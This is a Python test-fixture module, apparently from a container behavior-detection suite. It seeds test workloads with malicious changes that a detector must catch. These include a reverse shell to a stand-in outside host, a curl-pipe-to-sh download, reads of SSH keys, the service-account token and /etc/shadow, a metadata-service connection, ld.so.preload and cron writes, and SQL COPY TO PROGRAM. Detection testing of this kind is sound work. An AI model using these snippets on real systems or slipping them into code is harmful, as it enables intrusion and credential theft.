"""Changes of the workloads that a reviewer must hear of, and what is to be found of each.

Each is made to one workload, as an attack, a careless release or a changed dependency would make it, and does its harm
when the program starts. What prepares it is seen, too, so it must not be more serious than the harm itself.
"""

import platform
from dataclasses import dataclass, replace
from pathlib import Path
from textwrap import indent

from kubectl_gadget.behavior.facts import FactKind
from kubectl_gadget.linux.syscalls import syscall_names
from tests.behavior.scenarios.stage import METADATA, OUTSIDE
from tests.behavior.scenarios.workloads import API, CACHE, DB, FRONT, ORDERS, Workload


@dataclass(frozen=True)
class SeededChange:
    """One change. What is found first or second has the kind, and `says` in its words."""

    name: str
    workload: Workload
    kind: FactKind
    says: str

    @property
    def called(self) -> str:
        """The name of the workload in its run."""
        letters = "".join(letter if letter.isalnum() else " " for letter in self.name.lower())
        return f"{self.workload.name}-{'-'.join(letters.split())}"


def _dependency(name: str, kind: FactKind, says: str, code: str) -> SeededChange:
    """A dependency of the Flask program runs this code when a worker imports it."""
    text = f"import ctypes, os, signal, socket, subprocess\n\nlibc = ctypes.CDLL(None)\ntry:\n{indent(code, '    ')}\n"
    text += f"except OSError:\n    pass\n\n{API.files['srv/app/prices.py']}"
    return SeededChange(name, replace(API, files={**API.files, "srv/app/prices.py": text}), kind, says)


def _child(name: str, kind: FactKind, says: str, code: str) -> SeededChange:
    """The same in a child process, so that the program goes on whatever happens to it."""
    whole = f"if not (child := os.fork()):\n    try:\n{indent(code, ' ' * 8)}\n    finally:\n        os._exit(0)\n"
    return _dependency(name, kind, says, f"{whole}os.waitpid(child, 0)")


def _entrypoint(name: str, workload: Workload, kind: FactKind, says: str, script: str) -> SeededChange:
    """The entrypoint runs this before the program."""
    return SeededChange(name, replace(workload, script=f"{script}\n{workload.script}"), kind, says)


def _node(name: str, kind: FactKind, says: str, code: str) -> SeededChange:
    """The Node program runs this first."""
    files = {**ORDERS.files, "srv/orders.js": f"{code}\n{ORDERS.files['srv/orders.js']}"}
    return SeededChange(name, replace(ORDERS, files=files), kind, says)


def _edited(workload: Workload, file: str, old: str, new: str, **more: str) -> Workload:
    """The workload with another configuration."""
    assert old in workload.files[file]
    return replace(workload, files={**workload.files, file: workload.files[file].replace(old, new), **more})


_CALLS = {name: number for number, name in syscall_names(platform.machine()).items()}
_BPF = f"libc.syscall({_CALLS['bpf']}, 5, ctypes.create_string_buffer(120), 120)"
_MODULE = f"libc.syscall({_CALLS['finit_module']}, 0, b'', 0)"
_NGINX, _REDIS = "etc/nginx/nginx.conf", "etc/redis/redis.conf"
_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
_SHELL = f"""s = socket.create_connection(('{OUTSIDE}', 4444))
for fd in range(3):
    os.dup2(s.fileno(), fd)
os.execv('/bin/sh', ['sh', '-i'])"""
_MEMFD = """fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/true', 'rb').read())
os.execve(fd, ['kworker'], {})"""
_PTRACE = """if not (child := os.fork()):
    signal.pause()
libc.ptrace(0x4206, child, 0, 0)
os.kill(child, 9)
os.waitpid(child, 0)"""
_DATAGRAM = f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('{OUTSIDE}', 53))"
_NODE_EGRESS = f"const s = require('node:net').connect(443, '{OUTSIDE}', () => s.destroy()).on('error', () => 0);"
_SQL = "'CREATE DATABASE shop'"
_BY_SQL = f"{_SQL} -c \"COPY (SELECT 1) TO PROGRAM 'cat >/dev/null'\""

CHANGES = (
    _dependency(
        "new program", FactKind.PROGRAM, "/usr/bin/id", "subprocess.run(['/usr/bin/id'], stdout=subprocess.DEVNULL)"
    ),
    _child("reverse shell", FactKind.PROGRAM, "runs /usr/bin/dash", _SHELL),
    _dependency("new egress", FactKind.CONNECT, ":443/tcp", f"socket.create_connection(('{OUTSIDE}', 443)).close()"),
    _dependency("egress by UDP", FactKind.CONNECT, ":53/udp", _DATAGRAM),
    _dependency("miner", FactKind.RESOLVE, "pool.minexmr.com", "socket.getaddrinfo('pool.minexmr.com', 443)"),
    _dependency("metadata", FactKind.CONNECT, "metadata service", f"socket.create_connection(('{METADATA}', 80))"),
    _dependency("key of SSH", FactKind.OPEN, "/root/.ssh/id_rsa", "open('/root/.ssh/id_rsa').read()"),
    _dependency("token", FactKind.OPEN, "serviceaccount/token", f"open('{_TOKEN}').read()"),
    _dependency("environment of others", FactKind.OPEN, "/environ", "open('/proc/1/environ').read()"),
    _dependency("shadow", FactKind.OPEN, "/etc/shadow", "open('/etc/shadow').read()"),
    _child("setuid", FactKind.PRIVILEGE, "user 0 to 1000", "os.setuid(1000)"),
    _child("memfd", FactKind.PROGRAM, "memfd:x", _MEMFD),
    _dependency("mount", FactKind.CAPABILITY, "CAP_SYS_ADMIN", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
    _dependency("ptrace", FactKind.PRIVILEGE, "ptrace", _PTRACE),
    _dependency("BPF", FactKind.CAPABILITY, "CAP_BPF", _BPF),
    _dependency("raw socket", FactKind.CAPABILITY, "CAP_NET_RAW", "socket.socket(2, socket.SOCK_RAW, 1).close()"),
    _child("user namespace", FactKind.PRIVILEGE, "CLONE_NEWUSER", "os.unshare(os.CLONE_NEWUSER)"),
    _child("chroot", FactKind.PRIVILEGE, "chroot", "os.chroot('/srv')"),
    _child("signal", FactKind.EXIT, "SIGABRT", "os.abort()"),
    _child("exit code", FactKind.EXIT, "code 3", "os._exit(3)"),
    _entrypoint("interpreter", CACHE, FactKind.PROGRAM, "/usr/bin/node", "node -e 1"),
    _entrypoint("curl", FRONT, FactKind.PROGRAM, "/usr/bin/curl", f"curl -s http://{OUTSIDE}/setup.sh | sh"),
    _entrypoint("package manager", FRONT, FactKind.PROGRAM, "/usr/bin/dpkg", "dpkg --configure -a"),
    _entrypoint("cron", FRONT, FactKind.OPEN, "writes /etc/cron.d/x", "mkdir -p /etc/cron.d; echo x >/etc/cron.d/x"),
    _entrypoint("etc", FRONT, FactKind.OPEN, "writes /etc/ld.so.preload", ": >/etc/ld.so.preload"),
    _entrypoint("program in tmp", CACHE, FactKind.PROGRAM, "/tmp/x", "cp /usr/bin/true /tmp/x; /tmp/x"),
    _entrypoint("trojan", FRONT, FactKind.OPEN, "writes /usr/bin/x", "echo exit >/usr/bin/x"),
    _node("shell in Node", FactKind.PROGRAM, "runs /usr/bin/dash", "require('child_process').execSync('exit 0');"),
    _node("egress of Node", FactKind.CONNECT, ":443/tcp", _NODE_EGRESS),
    SeededChange("port", _edited(FRONT, _NGINX, "listen 80;", "listen 80; listen 8081;"), FactKind.LISTEN, "8081/tcp"),
    SeededChange(
        "debugger",
        replace(ORDERS, script="exec node --inspect=0.0.0.0:9229 /srv/orders.js\n"),
        FactKind.LISTEN,
        "9229/tcp",
    ),
    SeededChange(
        "configuration",
        _edited(FRONT, _NGINX, "http {", "http { include /etc/nginx/own.conf;", **{"etc/nginx/own.conf": ""}),
        FactKind.OPEN,
        "reads /etc/nginx/own.conf",
    ),
    SeededChange("data of redis", _edited(CACHE, _REDIS, "dir /data", "dir /tmp"), FactKind.OPEN, "writes /tmp/"),
    SeededChange(
        "program by SQL", replace(DB, script=DB.script.replace(_SQL, _BY_SQL)), FactKind.PROGRAM, "/usr/bin/cat"
    ),
    *(
        [_dependency("module", FactKind.CAPABILITY, "CAP_SYS_MODULE", _MODULE)]
        if Path("/proc/modules").exists()
        else []
    ),
)
"""The last one needs a kernel with modules."""
